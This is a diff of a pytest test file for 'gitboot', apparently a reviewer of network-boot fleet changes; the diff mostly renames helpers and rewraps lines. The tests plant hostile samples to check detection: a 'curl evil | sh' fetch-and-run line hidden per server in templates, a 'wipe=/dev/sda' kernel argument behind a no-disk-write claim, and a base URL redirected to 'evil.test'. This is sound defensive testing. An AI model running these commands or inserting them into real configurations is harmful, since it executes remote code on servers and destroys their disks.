@@ -21,9 +21,9 @@ from gitboot.review.reinstalls import ReinstallReason
 from gitboot.review.review import Review, ReviewOutcome
 from gitboot.review.risks import Risk
 from tests.helpers.cases import for_each
-from tests.helpers.evaluations import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
-from tests.helpers.fleets import fleet, image, mac_of, maintenance, policy, profile, server
-from tests.helpers.git_repositories import Work
+from tests.helpers.evaluations import FLEET, SERVERS, USER_DATA, Files, compare_files, review_files
+from tests.helpers.fleets import fleet, image, maintenance, make_mac, policy, profile, server
+from tests.helpers.git_repositories import WorkTree
 
 EVIL: Final = "curl evil | sh"
 CLAIM: Final = "writesDisk: false"
@@ -36,14 +36,14 @@ WIPE: Final = "kernelArguments: [wipe=/dev/sda]"
 @pytest.fixture(scope="module")
 def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("template") / "fleet"
-    Work(path).commit(FLEET)
+    WorkTree(path).commit(FLEET)
     return path
 
 
 @pytest.fixture
-def work(template: Path, tmp_path: Path) -> Work:
+def work(template: Path, tmp_path: Path) -> WorkTree:
     shutil.copytree(template, tmp_path / "fleet")
-    found = Work(tmp_path / "fleet")
+    found = WorkTree(tmp_path / "fleet")
     found.git("checkout", "--quiet", "-b", "topic")
     return found
 
@@ -55,7 +55,7 @@ class Diffed(NamedTuple):
     facts: dict[str, Any]
 
 
-def diffed(work: Work, range: str = "main..topic") -> Diffed:
+def diffed(work: WorkTree, range: str = "main..topic") -> Diffed:
     """Run `gitboot diff` as CI does, in all formats at once."""
     formats = ("text", "markdown", "json")
     files = {each: work.path.parent / f"review.{each}" for each in formats}
@@ -68,7 +68,7 @@ def diffed(work: Work, range: str = "main..topic") -> Diffed:
     return Diffed(done.returncode, text, markdown, json.loads(found))
 
 
-def test_finding_s10_a_line_for_one_server_is_shown_even_if_a_group_begins_with_another_server(work: Work) -> None:
+def test_finding_s10_a_line_for_one_server_is_shown_even_if_a_group_begins_with_another_server(work: WorkTree) -> None:
     hidden = '{% if server.name == "fra1-web07" %}  - ' + EVIL + "\n{% endif %}"
     work.commit({"userdata/web.j2": f"{USER_DATA}runcmd:\n  - true\n{hidden}"})
     found = diffed(work)
@@ -80,7 +80,9 @@ def test_finding_s10_a_line_for_one_server_is_shown_even_if_a_group_begins_with_
         assert "fra1-web07" in text
 
 
-def test_finding_s11_an_image_that_claims_to_write_no_disk_is_an_installation_until_acknowledged(work: Work) -> None:
+def test_finding_s11_an_image_that_claims_to_write_no_disk_is_an_installation_until_acknowledged(
+    work: WorkTree,
+) -> None:
     work.commit(
         {
             "images/rescue.yaml": image("rescue-1", f"{CLAIM}, {WIPE}"),
@@ -106,7 +108,7 @@ def test_finding_s11_an_image_that_claims_to_write_no_disk_is_an_installation_un
     assert diffed(work, "accepted..topic").exit_code == 0
 
 
-def test_finding_s17_a_change_of_allowed_clients_is_not_shown_as_a_change_of_0_servers(work: Work) -> None:
+def test_finding_s17_a_change_of_allowed_clients_is_not_shown_as_a_change_of_0_servers(work: WorkTree) -> None:
     work.git("checkout", "--quiet", "main")
     work.commit({"fleet.yaml": fleet("baseURL: 'http://boot.test', provisioning: {clients: ['10.0.0.0/8']}")})
     work.git("checkout", "--quiet", "-B", "topic")
@@ -126,7 +128,7 @@ def test_finding_s17_a_change_of_allowed_clients_is_not_shown_as_a_change_of_0_s
 
 
 def alike(new: Files, old: Files = FLEET) -> list[list[str]]:
-    return [list(group.names) for group in reviewed(new, old).groups]
+    return [list(group.names) for group in review_files(new, old).groups]
 
 
 def web(template: str) -> Files:
@@ -144,7 +146,7 @@ def having(review: Review, text: str) -> set[str]:
 
 def test_servers_are_one_group_if_they_differ_by_their_own_values() -> None:
     own = "  # {{ server.name }} {{ server.uuid }} {{ server.interfaces[0].mac }} {{ urls.provisioned }}\n"
-    (group,) = reviewed(web(own)).groups
+    (group,) = review_files(web(own)).groups
     assert len(group.servers) == 18
     assert set(group.own) == {"name", "UUID", "MAC", "token"}
 
@@ -156,17 +158,17 @@ def test_servers_of_two_sites_are_one_group_if_they_differ_by_its_base_url() -> 
     )
     old = {**FLEET, "fleet.yaml": fleet(f"baseURL: 'http://boot.test', sites: [{sites}]")}
     new = {"profiles/web.yaml": FLEET["profiles/web.yaml"].replace("[quiet]", "[quiet, more]")}  # type: ignore[union-attr]
-    (group,) = reviewed(new, old).groups
+    (group,) = review_files(new, old).groups
     assert (len(group.servers), group.own) == (18, ("base URL",))
     moved = {"fleet.yaml": fleet(f"baseURL: 'http://boot.test', sites: [{sites.replace('fra1.test', 'evil.test')}]")}
-    assert sorted({name[:4] for name in having(reviewed({**new, **moved}, old), "evil.test")}) == ["fra1"]
+    assert sorted({name[:4] for name in having(review_files({**new, **moved}, old), "evil.test")}) == ["fra1"]
 
 
 @for_each(
     ("what", "condition"),
     [
         ("the name", 'server.name == "fra1-web07"'),
-        ("the address", f'server.interfaces[0].mac == "{mac_of("fra1-web07")}"'),
+        ("the address", f'server.interfaces[0].mac == "{make_mac("fra1-web07")}"'),
         ("the part of a name", '"web07" in server.name'),
     ],
 )
@@ -198,7 +200,9 @@ def test_a_line_at_another_position_is_another_difference() -> None:
 
 def test_a_hidden_secret_is_shown_as_different() -> None:
     old = {**FLEET, **web("password: hunter2\n")}
-    review = reviewed(web("password: {% if server.name == 'fra1-web07' %}hunter4{% else %}hunter3{% endif %}\n"), old)
+    review = review_files(
+        web("password: {% if server.name == 'fra1-web07' %}hunter4{% else %}hunter3{% endif %}\n"), old
+    )
     assert ["fra1-web07"] in [list(group.names) for group in review.groups]
     assert having(review, "HIDDEN: changed, and may contain a secret") == {n[8:-5] for n in FLEET if "-web" in n}
     assert not having(review, "hunter")
@@ -225,10 +229,10 @@ IGNITION: Final[Files] = {
 
 def test_files_in_data_urls_are_compared_and_shown_decoded() -> None:
     own = "{% set text = 'exec ' ~ server.name %}"
-    (group,) = reviewed({"userdata/web.j2": own + NODE}, IGNITION).groups
+    (group,) = review_files({"userdata/web.j2": own + NODE}, IGNITION).groups
     assert (len(group.servers), group.own) == (18, ("name",))
     hidden = "{% set text = '" + EVIL + "' if server.name == 'fra1-web07' else 'false' %}"
-    assert having(reviewed({"userdata/web.j2": hidden + NODE}, IGNITION), EVIL) == {"fra1-web07"}
+    assert having(review_files({"userdata/web.j2": hidden + NODE}, IGNITION), EVIL) == {"fra1-web07"}
 
 
 @for_each(
@@ -245,7 +249,7 @@ def test_a_secret_in_json_and_in_its_data_urls_is_not_shown(kind: str, secret: s
     old, new = (
         {"userdata/web.j2": in_json(text, wrapped)} for text in (secret.replace("hunter22", "hunter33"), secret)
     )
-    review = reviewed(new, {**IGNITION, **old})
+    review = review_files(new, {**IGNITION, **old})
     assert len(having(review, "HIDDEN")) == 18
     assert not having(review, "hunter")
 
@@ -261,14 +265,16 @@ def test_a_key_that_occurs_twice_is_shown() -> None:
     twice = (
         '{"ignition": {"version": "3.4.0"}, {% if server.name == "fra1-web07" %}"a": "' + EVIL + '",{% endif %} "a": 1}'
     )
-    assert having(reviewed({"userdata/web.j2": twice}, IGNITION), EVIL) == {"fra1-web07"}
+    assert having(review_files({"userdata/web.j2": twice}, IGNITION), EVIL) == {"fra1-web07"}
 
 
 def test_each_machine_that_replaces_another_is_shown() -> None:
     names = ("fra1-web01", "fra1-web02", "fra1-web03")
     spec = "provision: 1"
     new = {
-        f"servers/{name}.yaml": server(name, "site: fra1, role: web", spec).replace(mac_of(name), mac_of(f"new {name}"))
+        f"servers/{name}.yaml": server(name, "site: fra1, role: web", spec).replace(
+            make_mac(name), make_mac(f"new {name}")
+        )
         for name in names
     }
     assert alike(new) == [[name] for name in names]
@@ -281,7 +287,7 @@ def test_a_new_address_is_a_separate_difference() -> None:
     def addressed(network: int) -> Files:
         return {
             f"servers/{name}.yaml": server(name, "site: fra1, role: web", "provision: 1").replace(
-                f'mac: "{mac_of(name)}"', f'mac: "{mac_of(name)}", addresses: [10.{network}.0.{number}/8]'
+                f'mac: "{make_mac(name)}"', f'mac: "{make_mac(name)}", addresses: [10.{network}.0.{number}/8]'
             )
             for number, name in enumerate(names, 1)
         }
@@ -392,7 +398,7 @@ def window(boots: str, select: str = "{servers: [fra1-web07]}") -> Files:
 def test_reinstallations_by_a_boot_that_claims_to_write_no_disk_are_counted(
     what: str, old: Files, new: Files, expected: set[ReinstallReason]
 ) -> None:
-    changes = {change.name: change for change in compared(new, old).servers}
+    changes = {change.name: change for change in compare_files(new, old).servers}
     asked = changes["fra1-web07"].reinstalls if "fra1-web07" in changes else ()
     assert {each.why for each in asked} == expected
 
@@ -419,14 +425,16 @@ def test_reinstallations_by_a_boot_that_claims_to_write_no_disk_are_counted(
     ],
 )
 def test_a_claim_is_held_before_a_server_boots_it(what: str, old: Files, new: Files, held: bool) -> None:
-    extent = compared(new, old).extent
+    extent = compare_files(new, old).extent
     assert (Guard.MAX_REINSTALLS in judge(extent, Limits()).holding_guards) is held
     assert not judge(extent, Limits(max_reinstalls=22)).held
     assert (Guard.MAX_REINSTALLS in judge(extent, Limits(max_reinstalls=21)).holding_guards) is held
 
 
 def test_an_acknowledgement_of_a_claim_counts_for_its_content_only() -> None:
-    one, other = (compared({"images/rescue.yaml": image("rescue-1", spec)}) for spec in (CLAIM, f"{CLAIM}, {WIPE}"))
+    one, other = (
+        compare_files({"images/rescue.yaml": image("rescue-1", spec)}) for spec in (CLAIM, f"{CLAIM}, {WIPE}")
+    )
     assert one.servers == other.servers == ()
     assert one.digest != other.digest
 
@@ -435,8 +443,8 @@ def test_a_server_that_comes_back_with_a_claim_is_named() -> None:
     path = "servers/fra1-web07.yaml"
     gone = {name: text for name, text in FLEET.items() if name != path}
     wiping = {path: FLEET[path], "profiles/repair.yaml": profile("repair", "memtest-7", WIPE), **window("repair")}
-    assert compared(wiping, gone).unknown_claims == ("fra1-web07",)
-    assert compared({path: FLEET[path]}, gone).unknown_claims == ()
+    assert compare_files(wiping, gone).unknown_claims == ("fra1-web07",)
+    assert compare_files({path: FLEET[path]}, gone).unknown_claims == ()
 
 
 # Allowed clients
@@ -481,7 +489,7 @@ def test_finding_m2_more_allowed_clients_are_detected(
 
 def test_finding_m2_a_review_shows_the_risk_of_one_time_boots_in_copies() -> None:
     changed = {"fleet.yaml": fleet("baseURL: 'http://boot.test', serving: {oneTimeBoots: Copies}")}
-    found = reviewed(changed, {**FLEET, "fleet.yaml": fleet(copies=False)})
+    found = review_files(changed, {**FLEET, "fleet.yaml": fleet(copies=False)})
     (danger,) = [each for each in found.find_dangers() if each.risk is Risk.ACCESS]
     assert danger.names == ("every machine",)
     (reason,) = danger.reasons
@@ -540,7 +548,7 @@ def test_a_server_with_a_new_secret_or_a_new_place_for_it_has_the_risk_of_access
     sealed: Mapping[str, str], what: str, old: Files, new: Files, servers: int
 ) -> None:
     before, after = ({path: sealed.get(text or "", text) for path, text in files.items()} for files in (old, new))
-    review = reviewed(after, before)
+    review = review_files(after, before)
     assert review.outcome in (ReviewOutcome.FINE, ReviewOutcome.HELD, ReviewOutcome.UNCHANGED)
     found = [danger for danger in review.find_dangers() if danger.risk is Risk.ACCESS]
     assert [len(danger.names) for danger in found] == ([servers] if servers else [])
